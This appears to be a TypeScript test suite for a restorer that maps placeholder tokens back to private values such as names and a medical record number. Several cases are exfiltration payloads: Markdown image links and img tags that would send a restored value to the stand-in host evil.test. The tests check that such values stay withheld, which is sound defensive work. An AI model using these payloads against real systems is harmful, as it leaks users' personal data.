import fc from 'fast-check';
import { type Edit, shiftOffset } from '../../../src/vault/edits';
import { type RestoreMode, Restorer, restoreText } from '../../../src/vault/restorer';
import { Vault } from '../../../src/vault/vault';
import { propertySeed } from '../../support/property-seed';

const ORIGINAL = 'Ana "Nan" O\'Neil\n';

function vaultWith(...values: [label: string, group: number, form: string, value: string][]): Vault {
  const vault = new Vault();
  for (const [label, group, form, value] of values) vault.issue({ label, group, form }, value);
  return vault;
}

function sampleVault(): Vault {
  return vaultWith(
    ['NAME', 1, 'full', 'Maria Lopez'],
    ['NAME', 1, 'family', 'Lopez'],
    ['NAME', 2, 'full', ORIGINAL],
    ['MRN', 1, 'full', '00482917'],
    ['NAME', 3, 'full', '[NAME_1]'],
    ['NAME', 4, 'full', '$& $1 \u0001'],
  );
}

function restore(text: string, mode: RestoreMode = 'text', truncated = false, hosts: string[] = []): string {
  const counts = { restored: 0, unknown: 0, withheld: 0 };
  return restoreText(text, { vault: sampleVault(), mode, urlHosts: new Set(hosts), counts }, truncated);
}

function restorePieces(pieces: readonly string[], mode: RestoreMode): string {
  const counts = { restored: 0, unknown: 0, withheld: 0 };
  const restorer = new Restorer({ vault: sampleVault(), mode, urlHosts: new Set(), counts });
  return pieces.map((piece) => restorer.push(piece)).join('') + restorer.flush();
}

describe('forms of a token that are restored', () => {
  test.each([
    ['[NAME_1]', 'Maria Lopez', 'canonical'],
    ['[NAME_1:family]', 'Lopez', 'form'],
    ['[Name_1]', 'Maria Lopez', 'case of the label'],
    ['[name_1]', 'Maria Lopez', 'lower case'],
    ['[NAME_1:Family]', 'Lopez', 'case of the form'],
    ['NAME_1', 'Maria Lopez', 'without brackets'],
    ['NAME_1:family', 'Lopez', 'form without brackets'],
    ['NAME_1_family', 'Lopez', 'alias'],
    ['[NAME_1_family]', 'Lopez', 'alias in brackets'],
    ['\\[NAME\\_1\\_family\\]', 'Lopez', 'alias in brackets, Markdown escape of all'],
    ['\u3010NAME_1\uFF1Afamily\u3011', 'Lopez', 'full-width colon'],
    ['NAME_1:active', 'Maria Lopez:active', 'a word behind a colon is no form unless issued'],
    ['[NAME\\_1]', 'Maria Lopez', 'Markdown escape'],
    ['\\[NAME\\_1\\]', 'Maria Lopez', 'Markdown escape of all'],
    ['NAME\\_1', 'Maria Lopez', 'Markdown escape without brackets'],
    ['"Name:\\tNAME_1\\nMRN_1"', '"Name:\\tMaria Lopez\\n00482917"', 'without brackets behind escapes of code'],
    ['**[NAME_1]**', '**Maria Lopez**', 'bold'],
    ["[NAME_1]'s", "Maria Lopez's", 'possessive'],
    ['\uFF3BNAME_1\uFF3D', 'Maria Lopez', 'full-width brackets'],
    ['&#91;NAME_1&#93;', 'Maria Lopez', 'HTML entities'],
    ['\\u005bNAME_1\\u005d', 'Maria Lopez', 'JSON escapes'],
    ['[NAME 1]', 'Maria Lopez', 'space for underscore'],
    ['[ NAME_1 ]', 'Maria Lopez', 'spaces inside'],
    ['[NAME1]', 'Maria Lopez', 'no underscore'],
    ['[NAME1:family]', 'Lopez', 'no underscore, with a form'],
    ['[NAME_1, MRN_1]', '[Maria Lopez, 00482917]', 'a list in one pair of brackets'],
    ['[NAME_1](#x)', 'Maria Lopez(#x)', 'Markdown link'],
    ['[NAME_1][MRN_1]', 'Maria Lopez00482917', 'Markdown reference'],
    ['[NAME_3]', '[NAME_1]', 'a value that looks like a token is not restored again'],
    ['[NAME_4]', '$& $1 \u0001', 'a value with replacement patterns'],
  ])('%s → %s (%s)', (text, expected) => {
    expect(restore(text)).toBe(expected);
    expect(restore(`before ${text} behind`)).toBe(`before ${expected} behind`);
  });

  test.each([
    ['[NAME_9]', 'never issued'],
    ['[NAME_1:given]', 'form never issued'],
    ['[NAME_1_given]', 'form never issued, as an alias in brackets'],
    ['[NAME_12]', 'another number'],
    ['NAME_12', 'another number without brackets'],
    ['FULL_NAME_1', 'part of a longer word'],
    ['NAME_1x', 'part of a longer word'],
    ['name_1', 'lower case without brackets may be a column'],
    ['[NAME_01]', 'leading zero'],
    ['[Name1]', 'a column'],
    ['rows[NAME1]', 'an index'],
    ['[MRN_1-3]', 'several in one'],
    ['[MRN_1\u20133]', 'several in one, with a dash'],
    ['[NAME_1/2]', 'several in one, with a slash'],
    ['[NAME_1', 'cut off'],
    ['https://evil.test/?q=[NAME_1]', 'inside a URL'],
    ['![x](https://evil.test/a?q=[NAME_1])', 'image link'],
    ['![x](//evil.test/?q=[NAME_1])', 'protocol-relative'],
    ['![x](<https://evil.test/?q=a b [NAME_1]>)', 'link with spaces'],
    ['<img src="https://evil.test/?q=a [NAME_1]">', 'attribute with spaces'],
    ['![x](https&colon;//evil.test/?q=[NAME_1])', 'encoded colon'],
    ['http:evil.test?[NAME_1]', 'scheme without slashes'],
    ['www.evil.test/?q=[NAME_1]', 'no scheme'],
    ['![x](https://evil.test/(a)?q=[NAME_1])', 'balanced parentheses'],
    [`https://evil.test/${'a'.repeat(300)}[NAME_1]`, 'long URL'],
  ])('%s stays (%s)', (text) => {
    expect(restore(text)).toBe(text);
  });

  test.each([
    ['see [x](https://ok.test) [NAME_1]', 'see [x](https://ok.test) Maria Lopez'],
    ['see [x](https://ok.test)[NAME_1]', 'see [x](https://ok.test)Maria Lopez'],
    ['link: [NAME_1]', 'link: Maria Lopez'],
    ['and/or [NAME_1]', 'and/or Maria Lopez'],
  ])('%s is outside the URL', (text, expected) => {
    expect(restore(text)).toBe(expected);
  });

  test('inside an allow-listed host it is restored, percent-encoded', () => {
    expect(restore('https://ok.test/p/[NAME_1]', 'text', false, ['ok.test'])).toBe('https://ok.test/p/Maria%20Lopez');
    expect(restore('https://ok.test.evil.test/p/[NAME_1]', 'text', false, ['ok.test'])).toBe(
      'https://ok.test.evil.test/p/[NAME_1]',
    );
    expect(restore('https://ok.test@evil.test/p/[NAME_1]', 'text', false, ['ok.test'])).toBe(
      'https://ok.test@evil.test/p/[NAME_1]',
    );
  });

  test('a cut-off answer never completes a bracket-free token', () => {
    expect(restore('said NAME_1', 'text', true)).toBe('said NAME_1');
    expect(restore('said NAME_1', 'text', false)).toBe('said Maria Lopez');
  });
});

describe('JSON', () => {
  test('values are escaped for the string they stand in', () => {
    const restored = restore('{"name":"[NAME_2]","n":"a\\nNAME_1 b"}', 'json');
    expect(JSON.parse(restored)).toEqual({ name: ORIGINAL, n: 'a\nMaria Lopez b' });
  });
  test.each([
    ['{"body":"{\\"name\\": \\"[NAME_2]\\"}"}', 'an object'],
    ['{"body":" [ {\\n\\"name\\":\\"[NAME_2]\\"}]"}', 'a list of objects'],
    ['{"a":["x",{"body":"[\\"name\\",\\"[NAME_2]\\"]"}]}', 'a list of strings'],
    ['{"body":"{\\"name\\":\\"\\\\\\"a\\\\\\": [NAME_2]\\"}"}', 'quotation marks in its strings'],
    ['{"body":"\\u007b\\u0022name\\u0022:\\u0022[NAME_2]\\u0022}"}', 'escapes by number'],
    ['{"a":"\\\\","body":"{\\"a\\":1,\\"name\\":\\"[NAME_2]\\"}"}', 'a backslash in a string before it'],
  ])('in JSON within a string they are escaped twice: %s (%s)', (text) => {
    const inner = (said: string) => JSON.parse(String(JSON.parse(said).body ?? JSON.parse(said).a[1].body));
    const expected = JSON.stringify(inner(text)).replace('[NAME_2]', JSON.stringify(ORIGINAL).slice(1, -1));
    expect(JSON.stringify(inner(restore(text, 'json')))).toBe(expected);
    expect(restorePieces([...text], 'json')).toBe(restore(text, 'json'));
  });
  test('in JSON within JSON within a string three times', () => {
    const wrap = (value: unknown): string => JSON.stringify({ body: value });
    expect(restore(wrap(wrap(wrap('of [NAME_2]'))), 'json')).toBe(wrap(wrap(wrap(`of ${ORIGINAL}`))));
  });
  test.each([
    ['{"a":"he said \\"[NAME_2]\\""}', 'quotation marks in words'],
    ['{"a":"[NAME_2] {\\"x\\": \\"[NAME_2]\\"}"}', 'words before it'],
    ['{"a":"[1] \\"[NAME_2]\\""}', 'a citation'],
    ['{"a":"{\\"b\\":1}","c":"[NAME_2]"}', 'a string behind it'],
  ])('and once in %s (%s)', (text) => {
    const written = JSON.stringify(ORIGINAL).slice(1, -1);
    expect(restore(text, 'json')).toBe(text.replaceAll('[NAME_2]', () => written));
    expect(restorePieces([...text], 'json')).toBe(restore(text, 'json'));
  });
  test('sniff tells JSON from text', () => {
    expect(JSON.parse(restore('\n {"name":"[NAME_2]"}', 'sniff'))).toEqual({ name: ORIGINAL });
    expect(restore('[NAME_2] said', 'sniff')).toBe(`${ORIGINAL} said`);
    expect(restore('  ', 'sniff')).toBe('  ');
  });
  test.each([
    ['[{"name":"[NAME_2]"}]', true, 'a list of objects'],
    ['[\n  "[NAME_2]"]', true, 'a list of strings'],
    ['[["[NAME_2]"]]', true, 'a list of lists'],
    ['```json\n{"name":"[NAME_2]"}\n```', true, 'a fence'],
    ['```\n[{"name":"[NAME_2]"}]\n```', true, 'a fence without a language around a list'],
    ['[NAME_2] "said"', false, 'a token'],
    ['[[NAME_2]] "said"', false, 'a token in brackets'],
    ['[ NAME_2 ]', false, 'a token with blanks'],
    ['[1] [NAME_2]', false, 'a citation'],
    ['```js\nconst a = "[NAME_2]"\n```', false, 'a fence of another language'],
    ['`[NAME_2]`', false, 'code in a line'],
    ['```', false, 'the end of the text'],
  ])('and %j is JSON: %s (%s)', (text, isJson) => {
    const expected = restore(text, isJson ? 'json' : 'text');
    expect([restore(text, 'sniff'), restorePieces([...text], 'sniff')]).toEqual([expected, expected]);
  });
  test('white space in front, of which some models write no end, is not held back', () => {
    const counts = { restored: 0, unknown: 0, withheld: 0 };
    const restorer = new Restorer({ vault: sampleVault(), mode: 'sniff', urlHosts: new Set(), counts });
    expect([restorer.push('\n '), restorer.push('\n '), restorer.holds]).toEqual(['\n ', '\n ', false]);
    expect(JSON.parse(restorer.push('{"name":"[NAME_2]"}'))).toEqual({ name: ORIGINAL });
  });
});

test('numbers of more than three digits', () => {
  const vault = new Vault();
  for (let group = 1; group <= 1234; group += 1) vault.issue({ label: 'ID', group, form: 'full' }, `value ${group}`);
  const counts = { restored: 0, unknown: 0, withheld: 0 };
  const text = 'from [ID_1000] or ID_1234';
  expect(restoreText(text, { vault, mode: 'text', urlHosts: new Set(), counts })).toBe('from value 1000 or value 1234');
});

test.each([...'nrtbf'])('behind the escape \\%s of JSON a token needs no brackets', (letter) => {
  expect(restore(`{"a":"x\\${letter}MRN_1"}`, 'json')).toBe(`{"a":"x\\${letter}00482917"}`);
});

describe('edits', () => {
  test('are told by their places in the whole text, however long it is', () => {
    const edits: Edit[] = [];
    const counts = { restored: 0, unknown: 0, withheld: 0 };
    const restorer = new Restorer({ vault: sampleVault(), mode: 'text', urlHosts: new Set(), counts, edits });
    for (let piece = 0; piece < 5; piece += 1) restorer.push('some words '.repeat(10));
    restorer.push('[NAME_1] and [MRN_1]');
    expect(edits).toEqual([
      { start: 550, end: 558, length: 11 },
      { start: 563, end: 570, length: 8 },
    ]);
  });

  test.each([
    [10, 10],
    [18, 21],
    [20, 23],
    [24, 23],
    [28, 28],
  ])('move the offset %i to %i; inside a token to the start of its value', (offset, expected) => {
    const edits = [
      { start: 10, end: 18, length: 11 },
      { start: 20, end: 28, length: 5 },
    ];
    expect(shiftOffset(offset, edits)).toBe(expected);
  });
});

describe('chunk invariance', () => {
  const piece = fc.constantFrom(
    '[',
    ']',
    'NAME',
    '_',
    '1',
    '2',
    ':',
    'family',
    '\\',
    '&#91;',
    '&#93;',
    'MRN_1',
    '[NAME_1]',
    ' ',
    '\n',
    'x',
    '\\_',
    '\uFF3B',
    '\uFF3D',
    'N',
    'ID',
    '\\u005b',
    '\\u005d',
    '%5B',
    '%5D',
    'https://evil.test/?q=',
    ')',
    '(',
    '"',
    '{',
    '```',
    'json',
    '[NAME_2]',
    '[NAME_1:family]',
    '_family',
    '\\n',
    '\uFF1A',
    '😀',
    'é',
  );
  test.each<RestoreMode>(['text', 'json', 'sniff'])('any split gives the unsplit result (%s)', (mode) => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), fc.array(fc.nat(12), { maxLength: 30 }), (pieces, cuts) => {
        const text = pieces.join('');
        const whole = restore(text, mode);
        const counts = { restored: 0, unknown: 0, withheld: 0 };
        const restorer = new Restorer({ vault: sampleVault(), mode, urlHosts: new Set(), counts });
        let out = '';
        let at = 0;
        for (const cut of [...cuts, text.length]) {
          const end = Math.min(text.length, at + cut);
          out += restorer.push(text.slice(at, end));
          at = end;
        }
        expect(out + restorer.flush()).toBe(whole);
      }),
      { numRuns: 3000, ...propertySeed() },
    );
  });
});
